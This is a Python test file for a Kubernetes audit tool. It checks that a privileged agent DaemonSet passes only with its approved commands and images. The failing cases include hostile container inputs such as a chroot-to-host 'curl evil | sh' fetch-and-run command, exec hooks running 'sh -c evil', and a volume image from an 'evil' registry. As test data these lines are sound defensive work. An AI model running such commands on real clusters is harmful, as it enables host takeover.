"""A component's image can do everything on the node: what its containers run is part of the component."""

from __future__ import annotations

import copy
import datetime as dt
import json
from typing import Any

import pytest

from audit.evaluate.components import ComponentProfiles
from audit.model.component import Component, ComponentImage, ComponentNeed
from audit.model.finding import Outcome, PairAnswer, Violation
from audit.model.subject import SubjectRef
from audit.ports import CollectedObject

IMAGE = "registry.example/agent@sha256:" + "0" * 64
COMPONENT = Component(
    id="agent",
    version=1,
    title="Agent",
    source="agent v1",
    reviewed=dt.date(2026, 11, 30),
    reviewer="us",
    kinds=("apps/DaemonSet", "Pod"),
    namespaces=("system",),
    images=(ComponentImage(repository="registry.example/agent"),),
    needs=(
        ComponentNeed(rule="pod/privileged", values=(True,), containers=("agent",), why="drives devices"),
    ),
    commands=(("agent", "serve"), ("sh", "-c", "agent-init")),
)
CONTAINER = {"name": "agent", "image": IMAGE, "securityContext": {"privileged": True}}


def outcome(container: dict[str, Any], *, kind: str = "DaemonSet", owned: bool = True, **pod: Any) -> Outcome:
    """Of pod/privileged, when the rule finds that container privileged."""
    spec = {"containers": [{**CONTAINER, **container}], **pod}
    path: tuple[str | int, ...] = ("spec", "containers", 0, "securityContext", "privileged")
    value: dict[str, Any] = {"spec": spec}
    if kind != "Pod":
        value, path = {"spec": {"template": {"spec": spec}}}, ("spec", "template", *path)
    item = CollectedObject(
        ref=SubjectRef(
            cluster="a", group="" if kind == "Pod" else "apps", version="v1", kind=kind, namespace="system"
        ),
        raw=json.dumps(value).encode(),
        controller=("DaemonSet", "agent") if owned and kind == "Pod" else None,
    )
    found = Violation(path=path, container="agent", message="privileged", seen=True)
    answer = PairAnswer(rule="pod/privileged", outcome=Outcome.FAIL, violations=(found,))
    (settled,) = ComponentProfiles([COMPONENT]).settle(item, [copy.deepcopy(answer)])
    return settled.outcome


@pytest.mark.parametrize(
    "container",
    [
        {},
        {"args": ["--verbose", "--node=$(NODE)"]},
        {"command": ["agent", "serve"], "args": ["--verbose"]},
        {"command": ["agent"], "args": ["serve"]},
        {"command": ["sh", "-c"], "args": ["agent-init"]},
        {"livenessProbe": {"exec": {"command": ["agent", "serve", "--check"]}}},
        {"livenessProbe": {"httpGet": {"port": 80}}},
    ],
)
def test_its_own_program_and_named_ones_with_flags(container: dict[str, Any]) -> None:
    assert outcome(container) is Outcome.PASS


@pytest.mark.parametrize(
    "container",
    [
        {"command": ["sh", "-c", "chroot /host curl evil | sh"]},
        {"command": ["agent", "serve", "evil"]},
        {"command": ["sh", "-c", "agent-init", "x"]},
        {"args": ["sh", "-c", "evil"]},
        {"args": ["--", "sh"]},
        {"command": ["/host/bin/agent", "serve"]},
        {"livenessProbe": {"exec": {"command": ["sh", "-c", "evil"]}}},
        {"lifecycle": {"postStart": {"exec": {"command": ["evil"]}}}},
    ],
)
def test_anything_else_fails(container: dict[str, Any]) -> None:
    assert outcome(container) is Outcome.FAIL


def test_an_image_that_fills_a_volume_must_be_of_the_component() -> None:
    assert outcome({}, volumes=[{"name": "v", "image": {"reference": IMAGE}}]) is Outcome.PASS
    assert outcome({}, volumes=[{"name": "v", "image": {"reference": "evil.example/x:1"}}]) is Outcome.FAIL
    assert outcome({}, volumes=[{"name": "v", "image": "evil"}]) is Outcome.FAIL


def test_a_pod_of_nobodys_is_no_component() -> None:
    assert outcome({}, kind="Pod") is Outcome.PASS
    assert outcome({}, kind="Pod", owned=False) is Outcome.FAIL
